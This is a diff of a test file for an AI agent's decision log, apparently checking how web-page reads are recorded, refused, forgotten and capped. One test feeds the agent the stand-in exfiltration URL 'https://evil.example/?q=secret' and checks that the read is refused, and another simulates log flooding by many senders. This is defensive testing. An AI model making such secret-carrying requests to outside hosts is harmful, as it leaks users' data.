@@ -1,7 +1,10 @@
 // The owner reads why the agent did, asked for or refused each thing: nothing that the card did not show, and not for ever.
-import { afterEach, beforeEach, expect, test } from 'vitest';
-import { MAX_KEPT, MAX_PER_PERSON } from '../../src/agent/decisions/decision-store.ts';
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { MAX_KEPT, MAX_PER_PERSON, MAX_READINGS, MAX_READINGS_PER_PERSON } from '../../src/agent/decisions/decision-store.ts';
 import { decisionsMade } from '../../src/agent/decisions/listing.ts';
+import { type Reading, ReadingFailure } from '../../src/agent/reading/domain/reading.ts';
+import { readingsFor } from '../../src/agent/reading/reading-for.ts';
+import { webPage } from '../../src/agent/reading/web-page.ts';
 import { inboxOf, OWNER } from '../context/bare-agent.ts';
 import { HOTEL, HOUR, type MailScene, startMailScene } from '../effects/mail-scene.ts';
 
@@ -80,6 +83,79 @@ test('attack: a person, or many inboxes, who ask for a thousand things push out 
   for (let n = 0; n < 1_000; n++) note(`inbox-${n}`, n, 'refuse');
   expect(made()).toHaveLength(MAX_KEPT);
   expect(made().filter(({ outcome }) => outcome === 'run')).toHaveLength(MAX_PER_PERSON + 1);
+});
+
+describe('readings', () => {
+  const noted = (url: string, said: string, o: Partial<Reading> = {}, by = OWNER) => {
+    const reader = { read: () => Promise.resolve({ from: 'example.org', title: '', text: 'Ramen.', isCut: false }) };
+    const readings = () => [{ ...webPage(reader), ...o }];
+    const message = {
+      messageId: said.padEnd(64, '0'),
+      senderInboxId: by,
+      self: false,
+      text: said,
+      sentAt: new Date(0),
+      learn: false,
+      answer: true,
+    };
+    return readingsFor({ ...scene.agent.deps, readings }, message, 8_000).read('web_read', { url }, new AbortController().signal);
+  };
+  const PAGE = 'https://example.org/menu?token=secret';
+
+  test('name the host that was read, by whose words, and whether it worked', async () => {
+    await noted(PAGE, `read ${PAGE}`);
+    expect(made()).toEqual([
+      {
+        ...{ at: scene.deps.now().toISOString(), outcome: 'run', byOwner: true, askedBy: expect.stringContaining(OWNER.slice(0, 8)) },
+        ...{ text: 'Read a web page at example.org.', why: 'Its level lets it do that for whoever addresses it.', end: 'done' },
+      },
+    ]);
+    expect(JSON.stringify(made())).not.toContain('token');
+    await noted('https://away.example/x', 'read https://away.example/x', { read: () => Promise.reject(new ReadingFailure('away')) });
+    expect(made()[0]).toMatchObject({ text: 'Read a web page at away.example.', end: 'failed' });
+  });
+
+  test('that were refused say why', async () => {
+    await noted('https://evil.example/?q=secret', 'read https://example.org/menu');
+    expect(made()[0]).toMatchObject({
+      text: 'Read a web page at evil.example.',
+      outcome: 'refuse',
+      why: expect.stringContaining('did not say where to read'),
+    });
+    scene.agent.store.change({ trust: { ...scene.agent.store.state.trust, level: 'L1' } });
+    await noted(PAGE, `read now ${PAGE}`);
+    expect(made()[0]).toMatchObject({ outcome: 'refuse', why: 'Its level does not allow that.' });
+    expect(made()[0]).not.toHaveProperty('end');
+  });
+
+  test('are forgotten with what somebody said, and end with the owner', async () => {
+    scene.joins('Mia');
+    await noted(PAGE, `read ${PAGE}`, {}, inboxOf('Mia'));
+    await scene.says('forget everything I said', 'Mia');
+    expect(made()).toMatchObject([{ text: 'Read a web page.', outcome: 'run' }]);
+    scene.agent.store.decisions.clear();
+    expect(made()).toEqual([]);
+  });
+
+  test('attack: readings without end push out no action, and few of one person’s', async () => {
+    await scene.says(REMINDER);
+    const { decisions } = scene.agent.store;
+    const note = (who: string, n: number, outcome: 'run' | 'refuse') =>
+      decisions.noteReading({
+        messageId: `${n}`,
+        askedBy: who,
+        kind: 'web.read',
+        host: `${n}.example`,
+        outcome,
+        why: 'level',
+        at: scene.deps.now(),
+      });
+    for (let n = 0; n < 400; n++) note(inboxOf('Mallory'), n, 'run');
+    expect(made()).toHaveLength(1 + MAX_READINGS_PER_PERSON);
+    for (let n = 0; n < 400; n++) note(inboxOf(`Mallory ${n}`), 1_000 + n, 'refuse');
+    expect(made()).toHaveLength(1 + MAX_READINGS);
+    expect(made().filter(({ outcome }) => outcome === 'run')).toHaveLength(1 + MAX_READINGS_PER_PERSON);
+  });
 });
 
 test('attack: a name or an address that would start a line of its own, or turn the text around', async () => {
